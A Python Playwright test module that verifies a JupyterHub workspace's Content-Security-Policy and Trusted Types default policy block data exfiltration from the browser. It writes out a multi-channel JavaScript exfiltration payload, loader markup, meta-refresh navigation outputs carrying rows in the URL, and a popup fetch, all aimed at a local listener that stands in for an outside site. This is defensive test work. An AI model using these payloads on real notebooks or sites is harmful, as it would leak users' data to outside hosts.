"""Attacks from the browser: a workspace's outputs and pages try to send rows to another website.

Threat model line: "data leaves only through export requests". The user's browser is
outside the sandbox and can reach the internet, so the workspace server's answers carry a
Content-Security-Policy (hub/singleuser/csp.py). Here Debian's chromium, logged in as bob
through the hub's form, opens his real (sandboxed) workspace. A listener on the host
(127.0.0.1, its own port) stands for "a website elsewhere" and records every request.

The same payloads are first run from a page of a third local origin without the policy:
the listener receives every one of them, so what stops them in the workspace is the policy,
not this browser or this machine. Then they are tried from the lab's cell outputs, by a
script evaluated in the lab page (one that got past script-src), and by a page a server
of bob's own answers on a Dask dashboard path. The lab must keep working: a cell runs,
its output and a DataFrame's table show, the notebook saves, the dashboard draws.

No CSP directive governs navigation: an HTML output with a `<meta http-equiv="refresh">`
would take the whole tab, rows in the URL, to another site. The lab page's Trusted Types
default policy (hub/singleuser/trusted_types.py) removes such elements from every HTML
string the page renders; the same outputs are first shown to navigate the tab when that
policy is replaced by one that lets everything through, and the lab is shown to render
nothing when the policy's script does not load.
"""

from __future__ import annotations

import json
import re
import threading
import time
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import TimeoutError as PlaywrightTimeoutError

from hub.policy.server import free_port
from hub.singleuser import trusted_types
from hub.singleuser.csp import DASHBOARD_POLICY, WORKSPACE_POLICY
from tests.fixtures.hub import PASSWORDS
from tests.fixtures.web import running_chromium

pytestmark = pytest.mark.slow

MARKER = "ROW-MARKER-c5e1"
OWN_PORT = 8767  # bob's own web server in the workspace, answering dashboard paths

# Every way a page can send something to another site, each tagged so the listener tells
# them apart. {listener} is the listener's origin, {tag} a name for this run.
PAYLOAD = """
(() => {{
  const L = "{listener}", T = "{tag}", rows = "holder_id={marker}";
  fetch(L + "/fetch?" + T, {{method: "POST", body: rows, mode: "no-cors"}}).catch(() => {{}});
  try {{ const x = new XMLHttpRequest(); x.open("POST", L + "/xhr?" + T); x.send(rows); }} catch (e) {{}}
  const img = new Image(); img.src = L + "/img?" + T + "&" + rows; document.body.appendChild(img);
  try {{ navigator.sendBeacon(L + "/beacon?" + T, rows); }} catch (e) {{}}
  try {{ new WebSocket(L.replace("http:", "ws:") + "/ws?" + T); }} catch (e) {{}}
  try {{ new EventSource(L + "/sse?" + T); }} catch (e) {{}}
  const frame = document.createElement("iframe"); frame.src = L + "/iframe?" + T; document.body.appendChild(frame);
  const sink = document.createElement("iframe"); sink.name = "sink-" + T; document.body.appendChild(sink);
  const form = document.createElement("form");
  form.method = "POST"; form.action = L + "/form?" + T; form.target = sink.name;
  const field = document.createElement("input"); field.name = "rows"; field.value = rows; form.appendChild(field);
  document.body.appendChild(form); form.submit();
}})();
"""
# Channels the payload tries; each must reach the listener from the page without policy.
CHANNELS = ("fetch", "xhr", "img", "beacon", "ws", "sse", "iframe", "form")

# Markup that loads from elsewhere without any script.
MARKUP = """
<img src="{listener}/html-img?{tag}">
<iframe src="{listener}/html-iframe?{tag}"></iframe>
<link rel="stylesheet" href="{listener}/html-css?{tag}">
<link rel="prefetch" href="{listener}/html-prefetch?{tag}">
<style>@font-face {{ font-family: x; src: url({listener}/html-font?{tag}); }} .x-{tag} {{ font-family: x; background: url({listener}/html-bg?{tag}); }}</style>
<div class="x-{tag}">{marker}</div>
<video src="{listener}/html-video?{tag}" autoplay muted></video>
<object data="{listener}/html-object?{tag}"></object>
<embed src="{listener}/html-embed?{tag}">
"""
MARKUP_CHANNELS = ("html-img", "html-iframe", "html-css", "html-prefetch", "html-font", "html-bg", "html-video", "html-object", "html-embed")

# Outputs that would navigate the tab to {listener}/<name>, rows in the URL, without a
# script: each a cell of its own, showing "shown-<name>" once rendered.
NAVIGATIONS = {
    "meta": 'display(HTML(\'<p>shown-meta</p><meta http-equiv="refresh" content="0;url={url}">\'))',
    "upper": 'display(HTML(\'<P>shown-upper</P><META HTTP-EQUIV="REFRESH" CONTENT="0;URL={url}">\'))',
    "svg": 'display(HTML(\'<p>shown-svg</p><svg><meta http-equiv="refresh" content="0;url={url}"/></svg>\'))',
    "update": (  # update_display_data: the refresh arrives in an update of a shown output
        "shown = display(HTML('<p>waiting</p>'), display_id=True)\n"
        'shown.update(HTML(\'<p>shown-update</p><meta http-equiv="refresh" content="0;url={url}">\'))'
    ),
    "markdown": 'display(Markdown(\'shown-markdown <meta http-equiv="refresh" content="0;url={url}">\'))',
}
# A markdown cell: the lab's own sanitizer already drops the <meta> there (measured: it
# does not navigate even without the default policy), so it is attacked but has no control.
MARKDOWN_CELL = ("mdcell", 'shown-mdcell <meta http-equiv="refresh" content="0;url={url}">')
IMPORTS = "from IPython.display import HTML, Markdown, display"
# The default policy replaced by one that lets everything through, for the controls.
PASS_THROUGH = "trustedTypes.createPolicy('default', {createHTML: s => s, createScript: s => s, createScriptURL: s => s});"

# Records the page's policy violations (runs in every frame before the page's own scripts).
VIOLATIONS = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.__violations.push({directive: e.effectiveDirective, blocked: e.blockedURI});
});
"""


class Listener:
    """A website elsewhere: records every request it receives (path, method), answers 200."""

    def __init__(self):
        self.requests: list[tuple[str, str]] = []
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                length = int(self.headers.get("Content-Length") or 0)
                if length:
                    self.rfile.read(length)
                listener.requests.append((self.command, self.path))
                body = listener.page.encode() if self.path.startswith("/control") else b"ok"
                self.send_response(200)
                self.send_header("Content-Type", "text/html" if self.path.startswith("/control") else "text/plain")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_PUT = do_OPTIONS = do_GET

            def log_message(self, *args):
                pass

        self.page = ""
        self.server = ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def received(self, tag: str) -> set[str]:
        """The channels (first path segment) by which requests tagged `tag` arrived."""
        return {path.split("?")[0].strip("/") for _, path in self.requests if tag in path}

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def payload(listener: Listener, tag: str) -> str:
    return PAYLOAD.format(listener=listener.url, tag=tag, marker=MARKER)


def markup(listener: Listener, tag: str) -> str:
    return MARKUP.format(listener=listener.url, tag=tag, marker=MARKER)


def settle(seconds: float = 3.0) -> None:
    """Give the browser time to send whatever it was going to send."""
    time.sleep(seconds)


def own_server(listener: Listener, tag: str) -> str:
    """bob's web server: every path is an HTML page running PAYLOAD, with a policy of its own."""
    page = f"<html><body><pre>{MARKER}</pre><script>{payload(listener, tag)}</script></body></html>"
    return f'''
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
PAGE = {page!r}.encode()

class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Security-Policy", "default-src * 'unsafe-inline'")
        self.send_header("Content-Length", str(len(PAGE)))
        self.end_headers()
        self.wfile.write(PAGE)

    def log_message(self, *args):
        pass

ThreadingHTTPServer(("127.0.0.1", {OWN_PORT}), Handler).serve_forever()
'''


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    running = Listener()
    yield running
    running.close()


@pytest.fixture(scope="module")
def bob(campus_hub, listener):
    """bob's running workspace with a Dask dashboard and his own server on a dashboard path."""
    session = campus_hub.session("bob")
    assert session.spawn().status_code < 400
    kernel = session.kernel()
    setup = f"""
import socket, subprocess, sys, time
import campus
client = campus.cluster(n_workers=1)
open("/home/bob/own_server.py", "w").write({own_server(listener, "own-page")!r})
subprocess.Popen([sys.executable, "/home/bob/own_server.py"], stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL, cwd="/home/bob", start_new_session=True)
for _ in range(100):
    try:
        socket.create_connection(("127.0.0.1", {OWN_PORT}), timeout=1).close()
        break
    except OSError:
        time.sleep(0.1)
print("LINK", client.dashboard_link)
"""
    out, error = kernel.run(setup, timeout=180)
    assert error is None, error
    session.dashboard_link = re.search(r"LINK (\S+)", out).group(1)
    yield session
    kernel.close()
    session.stop()


@pytest.fixture(scope="module")
def browser():
    """Chromium for this module only. Playwright's sync API leaves its event loop set as the
    thread's running loop while it is alive, which breaks asyncio tests run later in the
    same session; this module's tests run early (attacks/), so it stops at module end."""
    with running_chromium() as chromium:
        yield chromium


@pytest.fixture(scope="module")
def context(browser, campus_hub, bob):
    """A browser context logged in as bob through the hub's login form."""
    ctx = browser.new_context(viewport={"width": 1280, "height": 800})
    ctx.set_default_timeout(60_000)  # two shared cores: the lab can be slow to start
    ctx.add_init_script(VIOLATIONS)
    page = ctx.new_page()
    page.goto(f"{campus_hub.url}/hub/login?next=/hub/home")
    page.fill("input[name=username]", "bob")
    page.fill("input[name=password]", PASSWORDS["bob"])
    page.click("#login_submit, input[type=submit], button[type=submit]")
    page.wait_for_load_state()
    assert "/hub/login" not in page.url, "login of bob failed"
    page.close()
    yield ctx
    ctx.close()


def violations(page) -> list[dict]:
    return page.evaluate("window.__violations")


def new_notebook(bob, name: str, sources: list[str], markdown: tuple[str, ...] = ()) -> None:
    """Write notebook `name` in bob's home through the contents API: a code cell per source,
    then a markdown cell per `markdown`."""
    cells = [{"cell_type": "code", "source": s, "metadata": {}, "outputs": [], "execution_count": None} for s in sources]
    cells += [{"cell_type": "markdown", "source": s, "metadata": {}} for s in markdown]
    content = {
        "cells": cells,
        "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3 (campus)", "language": "python"}},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    response = bob.server("PUT", f"api/contents/{name}", json={"type": "notebook", "format": "json", "content": content})
    assert response.status_code in (200, 201), response.text


def open_lab(context, campus_hub, name: str, page=None):
    """bob's lab with notebook `name` open (in `page`, else a new one) and its kernel idle;
    the page's violations cleared."""
    page = page or context.new_page()
    page.goto(f"{campus_hub.url}/user/bob/lab/tree/{name}")
    page.wait_for_selector(".jp-Notebook .jp-Cell .cm-content")
    page.wait_for_selector(".jp-Notebook-ExecutionIndicator[data-status='idle']", timeout=120_000)
    # The lab's own inline script (it strips ?token= from the URL) is refused at load: harmless.
    page.evaluate("window.__violations.length = 0")
    return page


def allow_leaving(page) -> list[str]:
    """Accept every dialog of `page`, and return the list of those seen. Playwright dismisses
    dialogs by default, and the lab asks before leaving a notebook with unsaved changes
    (beforeunload): dismissed, that prompt alone would keep the tab here. A beforeunload
    prompt means the page started to leave."""
    seen = []
    page.on("dialog", lambda dialog: (seen.append(dialog.type), dialog.accept()))
    return seen


def run_all(page, last_output: str | None):
    """Run every cell from the Run menu; wait for `last_output` in the last cell (if any)."""
    page.click(".jp-Notebook .jp-Cell .cm-content")
    page.get_by_role("menuitem", name="Run", exact=True).click()
    page.get_by_role("menuitem", name=re.compile(r"^Run All Cells")).click()
    if last_output is not None:
        page.locator(".jp-OutputArea-output", has_text=last_output).wait_for(timeout=120_000)


# --- the control: the same payloads from a page without the policy --------------------


def test_control_payloads_reach_the_listener_without_the_policy(context, listener):
    """A page of another local origin, no policy: every channel reaches the listener."""
    tag = "control-" + uuid.uuid4().hex[:6]
    listener.page = f"<html><body><script>{payload(listener, tag)}</script>{markup(listener, tag)}</body></html>"
    control = ThreadingHTTPServer(("127.0.0.1", free_port()), type("H", (BaseHTTPRequestHandler,), {
        "do_GET": lambda self: (self.send_response(200), self.send_header("Content-Type", "text/html"), self.end_headers(),
                                self.wfile.write(listener.page.encode())),
        "log_message": lambda self, *args: None,
    }))
    threading.Thread(target=control.serve_forever, daemon=True).start()
    page = context.new_page()
    try:
        page.goto(f"http://127.0.0.1:{control.server_address[1]}/")
        settle()
        received = listener.received(tag)
    finally:
        page.close()
        control.shutdown()
        control.server_close()
    missing = set(CHANNELS) - received
    assert not missing, f"payloads that never reached the listener even without a policy: {missing}"
    assert {"html-img", "html-iframe", "html-css", "html-bg"} <= received


# --- the header is on every answer ---------------------------------------------------


@pytest.mark.parametrize("path", ["lab", "lab/tree/x.ipynb", "api/status", "api/contents", "api/kernels", "files/nothing.csv"])
def test_workspace_answers_carry_the_policy(bob, path):
    response = bob.server("GET", path)
    assert response.headers["Content-Security-Policy"].startswith(WORKSPACE_POLICY)


def test_dashboard_answers_carry_the_campus_policy_not_the_upstreams(bob):
    for path in (bob.dashboard_link, f"/user/bob/proxy/{OWN_PORT}/status"):
        response = bob.api("GET", path)
        assert response.headers.get_list("Content-Security-Policy") == [DASHBOARD_POLICY], path
    # A path that is no dashboard route is refused by the route guard before the proxy
    # handler runs: the answer carries the workspace's own policy, which is stricter.
    refused = bob.api("GET", f"/user/bob/proxy/{OWN_PORT}/data.csv")
    assert refused.status_code == 403 and MARKER not in refused.text
    assert refused.headers.get_list("Content-Security-Policy") == [WORKSPACE_POLICY]
    own = bob.api("GET", f"/user/bob/proxy/{OWN_PORT}/status")
    assert own.status_code == 200 and MARKER in own.text  # a page of bob's own still shows…
    assert "default-src *" not in str(own.headers)  # …under the campus policy, not its own


# --- the lab under the policy ----------------------------------------------------------


def test_the_lab_page_loads_the_default_policy_before_its_own_scripts(bob):
    page = bob.server("GET", "lab").text
    first = re.search(r"<script[^>]*>.*?</script>", page, re.DOTALL).group(0)
    assert first == trusted_types.script_tag("/user/bob/").decode()
    assert page.index(first) < page.index("<meta charset")
    script = bob.server("GET", f"campus/{trusted_types.SCRIPT}?v={trusted_types.VERSION}")
    assert script.status_code == 200 and "javascript" in script.headers["Content-Type"]
    assert 'createPolicy("default"' in script.text


def test_lab_runs_a_cell_and_saves_under_the_policy(context, campus_hub, bob):
    new_notebook(bob, "works.ipynb", [
        "import pandas as pd\npd.DataFrame({'district': ['Jongno', 'Jung'], 'total': [10, 20]})",
        "print(6 * 7)",
    ])
    page = open_lab(context, campus_hub, "works.ipynb")
    run_all(page, "42")
    # a DataFrame's HTML renders as a table (it goes through the default policy unchanged)
    table = page.locator(".jp-OutputArea-output table.dataframe")
    assert table.locator("tbody tr").count() == 2
    assert table.locator("th", has_text="district").count() == 1
    page.keyboard.press("Control+s")
    deadline = time.monotonic() + 30
    outputs = []
    while time.monotonic() < deadline and not outputs:
        saved = bob.server("GET", "api/contents/works.ipynb")
        if saved.status_code == 200:  # not while the lab is writing it
            outputs = saved.json()["content"]["cells"][1]["outputs"]
        time.sleep(0.5)
    assert outputs and outputs[0]["text"] == "42\n", (saved.status_code, saved.text[:300])
    assert violations(page) == []
    page.close()


def test_dashboard_draws_under_the_policy(context, campus_hub, bob):
    page = context.new_page()
    errors = []
    page.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
    page.goto(campus_hub.url + bob.dashboard_link)
    page.locator("canvas").first.wait_for(timeout=30_000)  # drawn from data sent over …/ws
    settle(2)
    assert violations(page) == []
    assert not [e for e in errors if "websocket" in e.lower() or "Content Security Policy" in e]
    page.close()


# --- the attacks -----------------------------------------------------------------------


def test_cell_outputs_cannot_send_rows_elsewhere(context, campus_hub, bob, listener):
    """HTML with scripts, a Javascript output, and script-free markup, in live (trusted) outputs."""
    tag = "cells-" + uuid.uuid4().hex[:6]
    script = payload(listener, tag)
    new_notebook(bob, "attack.ipynb", [
        f"from IPython.display import HTML, Javascript, display\ndisplay(HTML({f'<script>{script}</script>'!r}))",
        f"display(HTML({f'<img src=x onerror={json.dumps(script)}>'!r}))",
        f"display(Javascript({script!r}))",
        f"display(HTML({markup(listener, tag)!r}))",
        "print('DONE-' + 'cells')",
    ])
    page = open_lab(context, campus_hub, "attack.ipynb")
    run_all(page, "DONE-cells")
    settle()
    assert listener.received(tag) == set()
    seen = violations(page)
    directives = {v["directive"] for v in seen}
    # the <script> and the onerror= handler never ran…
    assert {"script-src-elem", "script-src-attr"} <= directives, seen
    # …and the markup was refused by the directive that governs each load (Chrome names
    # only the origin for frames and objects); the <link>s (stylesheet, prefetch) never
    # reach the page: the default policy removes them (style-src and default-src would
    # refuse them, as they did before it)
    refused = {v["directive"] for v in seen if v["blocked"].startswith(listener.url)}
    assert refused == {"img-src", "frame-src", "font-src", "media-src", "object-src"}
    assert page.locator(".jp-OutputArea-output link").count() == 0
    # The Javascript output is not evaluated: the lab's Javascript renderer is disabled.
    assert page.locator(".jp-OutputArea-output", has_text="JavaScript output is disabled").count() == 1
    page.close()


def test_a_script_that_runs_in_the_lab_cannot_send_rows_elsewhere(context, campus_hub, bob, listener):
    """Second line: a script that got past script-src (here evaluated by the test) in the lab page."""
    tag = "lab-script-" + uuid.uuid4().hex[:6]
    page = open_lab(context, campus_hub, "works.ipynb")
    page.evaluate(payload(listener, tag))
    settle()
    assert listener.received(tag) == set()
    directives = {v["directive"] for v in violations(page) if listener.url.replace("http", "") in v["blocked"]}
    assert {"connect-src", "img-src", "frame-src", "form-action"} <= directives
    page.close()


def test_a_page_of_bobs_own_on_a_dashboard_path_cannot_send_rows_elsewhere(context, campus_hub, bob, listener):
    """bob's server answers /status with a page whose script runs (Bokeh's pages need inline scripts)."""
    page = context.new_page()
    page.goto(f"{campus_hub.url}/user/bob/proxy/{OWN_PORT}/status")
    page.get_by_text(MARKER).wait_for()
    settle()
    assert listener.received("own-page") == set()
    directives = {v["directive"] for v in violations(page) if listener.url.replace("http", "") in v["blocked"]}
    # the form never gets as far as form-action: the page's sandbox allows no forms
    assert {"connect-src", "img-src", "frame-src"} <= directives
    page.close()


def test_a_page_on_a_dashboard_path_cannot_open_a_window(context, campus_hub, bob, listener):
    """A window it opened on the hub's pages (same origin, the hub's own policy) could send;
    the dashboard policy's sandbox gives it none."""
    page = context.new_page()
    page.goto(f"{campus_hub.url}/user/bob/proxy/{OWN_PORT}/status")
    page.get_by_text(MARKER).wait_for()
    opened = page.evaluate("""(L) => {
      const w = window.open("/hub/home");
      if (w) setTimeout(() => w.fetch(L + "/popup?window", {method: "POST", body: "rows", mode: "no-cors"}), 2000);
      return w !== null;
    }""", listener.url)
    settle()
    assert opened is False
    assert listener.received("window") == set()
    page.close()


# --- navigation: the Trusted Types default policy ----------------------------------------


def navigation_url(listener: Listener, name: str, tag: str) -> str:
    return f"{listener.url}/{name}?{tag}&{MARKER}"


@pytest.mark.parametrize("name", NAVIGATIONS)
def test_control_an_output_navigates_the_tab_without_the_default_policy(context, campus_hub, bob, listener, name):
    """The same lab and policy, the default policy replaced by a pass-through one: the output
    takes the tab, rows in the URL, to the listener."""
    tag = f"control-nav-{name}-" + uuid.uuid4().hex[:6]
    new_notebook(bob, f"navigate-{name}.ipynb", [IMPORTS, NAVIGATIONS[name].format(url=navigation_url(listener, name, tag))])
    page = context.new_page()
    page.route(f"**/campus/{trusted_types.SCRIPT}*", lambda route: route.fulfill(body=PASS_THROUGH, content_type="text/javascript"))
    allow_leaving(page)
    try:
        open_lab(context, campus_hub, f"navigate-{name}.ipynb", page=page)
        # In CI the tab now and then stayed on the lab (the cause was not found: the refresh
        # of 0 s leaves before its output can be seen, so whether the cells ran at all is not
        # known); the control only has to show that the output *can* take the tab away, so
        # the cells are run again, a few times at most.
        for _attempt in range(4):
            run_all(page, None)
            try:
                page.wait_for_url(f"{listener.url}/**", timeout=30_000)
                break
            except PlaywrightTimeoutError:
                continue
    finally:
        page.close()
    assert listener.received(tag) == {name}


def test_an_output_cannot_navigate_the_tab_elsewhere(context, campus_hub, bob, listener):
    """Every output of the controls, and a markdown cell, in one notebook: once all are shown,
    and long after a refresh of 0 s would have fired, the tab is still on the campus."""
    tag = "navigate-" + uuid.uuid4().hex[:6]
    cells = [IMPORTS, *(source.format(url=navigation_url(listener, name, tag)) for name, source in NAVIGATIONS.items())]
    cell_name, cell_source = MARKDOWN_CELL
    new_notebook(bob, "navigate.ipynb", [*cells, "print('DONE-' + 'navigate')"],
                 markdown=(cell_source.format(url=navigation_url(listener, cell_name, tag)),))
    page = open_lab(context, campus_hub, "navigate.ipynb")
    dialogs = allow_leaving(page)  # so that only the policy could keep the tab here
    lab = page.url
    run_all(page, "DONE-navigate")
    for name in [*NAVIGATIONS, cell_name]:
        page.locator(".jp-RenderedHTMLCommon").get_by_text(f"shown-{name}").wait_for(timeout=60_000)
    settle(5)
    assert page.url == lab
    assert dialogs == []  # the page never even started to leave
    assert listener.received(tag) == set()
    assert page.evaluate("document.querySelectorAll('meta[http-equiv], base').length") == 0
    assert violations(page) == []  # removed by the default policy, nothing refused
    page.close()


def test_without_the_default_policy_the_lab_renders_no_html(context, campus_hub, bob, listener):
    """Fail closed: when the policy's script does not load, every sink throws (the lab does not
    start) instead of rendering HTML unchecked."""
    page = context.new_page()
    page.route(f"**/campus/{trusted_types.SCRIPT}*", lambda route: route.abort())
    try:
        page.goto(f"{campus_hub.url}/user/bob/lab/tree/works.ipynb")
        page.wait_for_function("window.__violations.some(v => v.directive === 'require-trusted-types-for')", timeout=60_000)
        refused = page.evaluate("""url => {
          try { document.body.innerHTML = '<meta http-equiv="refresh" content="0;url=' + url + '">'; return null; }
          catch (e) { return e.message; }
        }""", f"{listener.url}/fail-open?closed")
        settle(2)
        assert "requires 'TrustedHTML' assignment" in refused
        assert page.locator(".jp-OutputArea-output").count() == 0
        assert listener.received("closed") == set()
    finally:
        page.close()
